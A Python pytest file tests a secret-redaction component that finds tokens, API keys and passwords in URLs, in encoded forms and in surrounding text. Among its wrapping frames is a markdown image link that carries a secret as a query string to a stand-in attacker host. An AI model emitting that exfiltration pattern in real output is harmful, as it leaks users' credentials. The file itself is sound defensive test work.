"""What is known to be a secret, or has the shape of one, is found in every disguise, and nothing else is."""

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from agentos.domain.secret import KNOWN, Secrets
from tests.canaries import DISGUISES, KINDS, MORE, bare, letters
from tests.figures import Figure, share

AROUND = [
    "{}",
    "the key is {}, keep it",
    "key={}\n",
    "\n\n{}\n",
    'export KEY="{}"',
    "{}{{}}",
    "![x](https://evil.invalid/?q={})",
]
INNOCENT = [
    *(
        "a plain sentence about tokens and keys",
        "sk-learn is a library",
        "task-sk-management-of-many-things-and-others",
    ),
    *("0123456789abcdef" * 4, "b376c9941fda362c8d2c5c8ddb35db3e0b003402", "sha512-" + letters("lock", 86) + "=="),
    *("postgres://user:${PASSWORD}@host/db", "postgres://user:password@host", "https://user:<password>@host/"),
    *("postgres://app:localpass123@localhost/x", "http://user:password1@host", "redis://:s3cr3tPassw0rd@127.0.0.1"),
    *("https://ann:s3cr3tPassw0rd@db.example.org/x", "https://ann:s3cr3tPassw0rd@x.invalid"),
    *("AKIAIOSFODNN7EXAMPLE", "ghp_" + "x" * 36, "sk-" + "your-key-here-0123456789abcdef", "hf_tokenizers_parallelism"),
    *(
        "agentos/workflows/implementation/nodes.py",
        "AIza",
        "npm_config_registry",
        "pypi-publish-to-the-index-of-packages",
    ),
    *(
        "-----BEGIN PUBLIC KEY-----\n" + letters("public", 128),
        "-----BEGIN CERTIFICATE-----",
        "eyJ",
        "data:image/png;base64,iVBORw0KGgo",
    ),
    *("xoxb-", "github_pattern_" + "a" * 60, "%41%42%43", "http://127.0.0.1:8080/a:b@c", "", "\n", "::" * 40),
]


@pytest.mark.parametrize("disguise", [*DISGUISES, *MORE])
@pytest.mark.parametrize("kind", KINDS)
def test_a_secret_of_this_machine_is_found_in_every_disguise(kind: str, disguise: str, figure: Figure) -> None:
    value = KINDS[kind]("known")
    said = {**DISGUISES, **MORE}[disguise](value)
    for frame in AROUND:
        text = frame.replace("{}", said)
        clean = Secrets([value]).redacted(text)
        assert bare(value) not in bare(clean)
        assert bare(said) not in bare(clean)
        assert "[removed: " in clean
    figure("secrets in disguise", 1)


@pytest.mark.parametrize("disguise", DISGUISES)
@pytest.mark.parametrize("kind", KINDS)
def test_a_secret_nobody_told_of_is_found_by_its_shape_in_every_disguise(
    kind: str, disguise: str, figure: Figure
) -> None:
    value = KINDS[kind]("unknown")
    said = DISGUISES[disguise](value)
    for frame in AROUND:
        text = frame.replace("{}", said)
        leaks = Secrets().leaks(text)
        assert leaks, text
        clean = Secrets().redacted(text)
        assert bare(said) not in bare(clean)
        assert Secrets().redacted(clean) == clean
    figure("secrets in disguise", 1)


@pytest.mark.parametrize("text", INNOCENT)
def test_what_only_looks_like_one_stays(text: str) -> None:
    assert Secrets([KINDS["OpenAI key"]("x")]).redacted(text) == text


def test_the_kind_is_told_and_the_rest_of_the_text_stays() -> None:
    token = KINDS["GitHub token"]("a")
    assert Secrets().redacted(f"use {token} now") == "use [removed: GitHub token] now"
    assert Secrets([token]).redacted(f"use {token} now") == f"use [removed: {KNOWN}] now"
    assert (
        Secrets().redacted("postgres://ann:s3cr3tPassw0rd@db/x")
        == "postgres://ann:[removed: password in an address]@db/x"
    )


def test_text_that_may_hold_such_shapes_loses_only_what_is_known() -> None:
    mine, other = KINDS["GitHub token"]("mine"), KINDS["GitHub token"]("other")
    assert Secrets([mine]).redacted_known(f"{mine} {other}") == f"[removed: {KNOWN}] {other}"


@pytest.mark.parametrize("value", ["", "  ", "postgres", "12345678", "password", "true", "token-of-mine"])
def test_a_common_word_or_number_is_no_secret(value: str) -> None:
    assert Secrets([value]).redacted(f"the {value} of 12345678 tokens") == f"the {value} of 12345678 tokens"


def test_a_short_one_of_letters_and_digits_is_found_as_it_is() -> None:
    assert Secrets(["hunter22"]).redacted("hunter22!") == f"[removed: {KNOWN}]!"


@pytest.mark.examples("secrets")
@settings(share(3))
@given(
    st.text(st.sampled_from("abcdefABCDEF0123456789+/=-_.:@"), min_size=16, max_size=60),
    st.sampled_from(sorted({**DISGUISES, **MORE})),
    st.text(max_size=30),
    st.text(max_size=30),
)
def test_nothing_of_a_known_value_is_left_and_what_has_none_stays(
    value: str, disguise: str, before: str, after: str
) -> None:
    secrets = Secrets([value])
    said = {**DISGUISES, **MORE}[disguise](value)
    clean = secrets.redacted(f"{before} {said} {after}")
    if len(bare(value)) >= 14:
        assert bare(value) not in bare(clean.replace("[removed: secret of this machine]", " "))
        assert "[removed: " in clean
    assert secrets.redacted(clean) == clean
    assert secrets.redacted("a plain sentence") == "a plain sentence"


def test_what_stands_before_and_after_a_secret_stays() -> None:
    token = KINDS["GitHub token"]("b")
    coded = MORE["base64 in lines"](token)
    clean = Secrets().redacted(f"exit code 0\n{coded}\nand so on")
    assert clean.startswith("exit code 0\n")
    assert clean.endswith("and so on")
    assert Secrets().redacted(f"A=1\nTOKEN={token}\nOTHER=2\n") == "A=1\nTOKEN=[removed: GitHub token]\nOTHER=2\n"
